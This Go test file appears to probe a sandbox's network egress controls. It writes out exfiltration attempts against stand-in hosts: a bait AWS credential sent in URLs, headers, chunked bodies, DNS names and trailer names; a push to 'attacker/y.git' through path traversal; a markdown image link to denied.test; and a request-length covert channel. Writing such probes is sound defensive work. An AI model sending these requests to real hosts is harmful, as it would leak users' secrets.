//go:build linux

package probe

import (
	"fmt"
	"strings"
)

const classChannels = "net.permitted-channels"

func channelsRows() []Row { return public(classChannels, append(channels(), baits()...)...) }

// baits are credentials that nobody honest uses, in the home: what the command
// finds there is the launcher's, or the user's own where nothing else is.
func baits() []Row {
	to := []Reach{{Host: "allowed.test", Ports: []int{80}, Kind: "http"}, {Host: "allowed.test", Ports: []int{443}, Kind: "tls", Inspect: true},
		{Host: "*.wild.test", Ports: []int{80}, Kind: "http"}, {Host: "allowed.test", Ports: []int{22}, Kind: "tcp"}}
	const plain = "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
	ask := func(to, path, headers string) string {
		return say(to, "GET "+path+" HTTP/1.1\r\nHost: allowed.test\r\n"+headers+"Connection: close\r\n\r\n")
	}
	ways := []string{
		ask("direct allowed.test:80", "/bait?k={}", ""), ask("direct allowed.test:80", "/bait", "Authorization: Bearer {}\r\n"), ask("direct allowed.test:80", "/bait", "Authorization: Basic {basic}\r\n"),
		ask("direct allowed.test:80", "/bait?k={escaped}", ""), ask("connect allowed.test:443", "/bait/{}", ""), ask("direct allowed.test:443", "/bait", "Cookie: k={}\r\n"), ask("socks allowed.test:443", "/bait?{}", ""),
		say("direct allowed.test:443", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{}"),
		say("direct allowed.test:80", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{half1}", "{half2}"),
		say("direct allowed.test:80", "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{size1}\r\n{half1}\r\n", "{size2}\r\n{half2}\r\n0\r\n\r\n"),
		"lookup {}.wild.test", say("direct allowed.test:22", "{}\r\n"), say("direct allowed.test:22", "{half1}", "{half2}\r\n"),
	}
	return []Row{{ID: "EXF-007", Core: true, Title: "a credential that lies in the home as a bait is sent to an allowed host", Refs: []string{"MITRE ATT&CK T1567", "MITRE Engage EAC0005"},
		Options: Options{Reach: to}, Accept: append([]string{"ETIMEDOUT"}, netReplies...), Action: "net-secret", Args: []string{"from=H/.aws/credentials", "ok=" + say("direct allowed.test:80", plain), "say=" + rowsOf(ways...)},
		Oracle: both(baited, recorded(Attempt{Action: "honey.sent", Verdict: "denied"}, Attempt{Action: "honey.read"}))}}
}

// baitedTrailers send the names of trailers that hold a bait.
func baitedTrailers() []Row {
	row := func(id, how, action string, args ...string) Row {
		return Row{ID: id, Title: "a credential that lies in the home as a bait is sent as the name of a trailer" + how, Refs: []string{"RFC 9110, 6.5", "MITRE Engage EAC0005"},
			Options: Options{Reach: turnReach}, Action: action, Args: append(args, "from=H/.aws/credentials"),
			Oracle: longTrailers, Proof: true, Trace: trail(refused("egress", "honey.sent", "allowed.test:443"), raised("honeytoken-sent"))}
	}
	const post = "POST /bait HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\nTrailer: "
	const body = "\r\n\r\n1\r\na\r\n0\r\n"
	return []Row{
		row("PXY-402", "", "net-secret", "ok="+say("direct allowed.test:443", post+"X-Sum"+body+"X-Sum: 1\r\n\r\n"),
			"say="+rowsOf(say("direct allowed.test:443", post+"X-{}"+body+"X-{}: 1\r\n\r\n"), say("direct allowed.test:443", post+"{}"+body+"{}: 1\r\n\r\n"))),
		row("PXY-402b", " of HTTP/2", "net-h2", "ok="+h2("allowed.test", "/bait", "trailer=x-sum", "=DATA a", "=TRAILER x-sum=1"),
			"say="+rowsOf(h2("allowed.test", "/bait", "trailer=x-{lower}", "=DATA a", "=TRAILER x-{lower}=1"), h2("allowed.test", "/bait", "trailer={lower}", "=DATA a", "=TRAILER {lower}=1"))),
	}
}

// longTrailers are names of trailers that are as long as a bait.
func longTrailers(w *World, _ Observation) (out []string) {
	for _, v := range w.net.requests("/bait") {
		for _, name := range v.trailers {
			if len(name) >= shortestBait {
				out = append(out, fmt.Sprintf("%s got a trailer with a name of %d letters", v.name, len(name)))
			}
		}
	}
	return out
}

// shortestBait is as long as a bait is at least: less of one is no use to anybody.
const shortestBait = 18

// baited are requests and bytes that should never have arrived.
func baited(w *World, _ Observation) []string {
	var out []string
	for _, v := range w.net.requests("/bait") {
		if v.method != "POST" || len(v.body) >= shortestBait {
			out = append(out, fmt.Sprintf("%s:%d got %s %.40s with a bait", v.name, v.to.Port(), v.method, v.target))
		}
	}
	w.net.mu.Lock()
	defer w.net.mu.Unlock()
	for _, said := range w.net.raw {
		if len(strings.TrimSpace(said)) >= shortestBait {
			out = append(out, fmt.Sprintf("a server without a protocol was told %.60q", said))
		}
	}
	return out
}

// A forge of which one repository may be pushed to, and a registry that may be
// read.
var (
	forge = []Reach{
		{Host: "allowed.test", Ports: []int{80}, Kind: "http", Methods: []string{"GET", "POST"}, Paths: []string{"/own/x.git/**"}},
		{Host: "allowed.test", Ports: []int{443}, Kind: "tls", Methods: []string{"GET", "POST"}, Paths: []string{"/own/x.git/**"}},
	}
	registry = []Reach{{Host: "allowed.test", Ports: []int{80}, Kind: "http", Methods: []string{"GET", "HEAD"}, Paths: []string{"/pkg/**"}}}
)

func channels() []Row {
	ask := func(line, rest string) string { return line + " HTTP/1.1\r\nHost: allowed.test\r\n" + rest + "\r\n" }
	push := func(repo string) []string {
		return []string{
			say("allowed.test:80", ask("GET /"+repo+"/info/refs?service=git-receive-pack", "")),
			say("allowed.test:80", ask("POST /"+repo+"/git-receive-pack", "Content-Type: application/x-git-receive-pack-request\r\nContent-Length: 4\r\n")+"0000"),
			say(proxyAddr, ask("POST http://allowed.test/"+repo+"/git-receive-pack", "Content-Length: 4\r\n")+"0000"),
		}
	}
	var others []string
	for _, repo := range []string{"attacker/y.git", "own/x.git/../../attacker/y.git", "own/x.git%2f..%2f..%2fattacker/y.git", "own/x", "own/x.gitt", "OWN/x.git"} {
		others = append(others, push(repo)...)
	}
	return []Row{
		{ID: "EXF-001", Core: true, Title: "another repository of an allowed forge is pushed to",
			Refs: []string{"srt README, security limitations", "gitprotocol-http(5)"}, Options: Options{Reach: forge}, Action: "net-say",
			Args: []string{"ok=" + rowsOf(push("own/x.git")...), "say=" + rowsOf(others...)}},
		{ID: "EXF-001b", Core: true, Title: "another repository of an allowed forge is reached over TLS",
			Refs: []string{"gitprotocol-http(5)"}, Options: Options{Reach: forge}, Action: "net-tls",
			Args: []string{"ok=" + rowsOf("direct allowed.test:443 path=/own/x.git/info/refs", "connect allowed.test:443 alpn=h2 path=/own/x.git/info/refs"),
				"try=" + rowsOf("direct allowed.test:443 path=/attacker/y.git/info/refs", "connect allowed.test:443 path=/attacker/y.git/info/refs alpn=h2", "socks allowed.test:443 path=/attacker/y.git/info/refs")}},
		{ID: "EXF-002", Title: "a package is published to a registry that may only be read",
			Refs: []string{"npm-publish(1)", "agentcore S3 command channel"}, Options: Options{Reach: registry}, Action: "net-say",
			Args: []string{"ok=" + say("allowed.test:80", ask("GET /pkg/left-pad", "")), "say=" + rowsOf(
				say("allowed.test:80", ask("PUT /pkg/left-pad", "Content-Length: 2\r\n")+"{}"), say("allowed.test:80", ask("POST /legacy/", "Content-Length: 2\r\n")+"{}"),
				say("allowed.test:80", ask("GET /search?q=secret", "")), say("allowed.test:80", ask("POST /pkg/left-pad", "Content-Length: 2\r\n")+"{}"), say("allowed.test:80", ask("DELETE /pkg/left-pad", "")))}},
		{ID: "EXF-004", Title: "what is printed makes somebody outside fetch a picture",
			Refs: []string{"CVE-2025-54132"}, Action: "net-print", Bare: "nobody renders what a command prints in a terminal",
			Args: []string{"text=![x](http://denied.test/?data)\n[x]: http://denied.test/?data\n\x1b]8;;http://denied.test/?data\x1b\\x\x1b]8;;\x1b\\"}},
		{ID: "EXF-005", Title: "a file that was written makes somebody outside fetch a schema",
			Refs: []string{"IDEsaster"}, Action: "create", Harmless: "a file of the workspace may be written, and nothing outside reads it during the run", Bare: "nobody opens the file in an editor",
			Args: []string{"path=W/x.json"}},
		{ID: "EXF-006", Title: "the length of what is asked for tells an allowed host something",
			Refs: []string{"covert channels"}, Residual: "what an allowed host is sent is what it learns: how long, how often and when can tell it anything",
			Action: "net-get", Oracle: lengths, Proof: true,
			Args: []string{"ok=direct http://allowed.test/", "try=" + by(allDoors[:1], "http://allowed.test/"+strings.Repeat("a", 72), "http://allowed.test/"+strings.Repeat("a", 105))}},
	}
}

// lengths reads a message from the lengths of requests.
func lengths(w *World, _ Observation) []string {
	text := ""
	for _, v := range w.net.requests("/a") {
		text += string(rune(len(v.target) - 1))
	}
	if text != "" {
		return []string{fmt.Sprintf("an allowed host was told %q", text)}
	}
	return nil
}
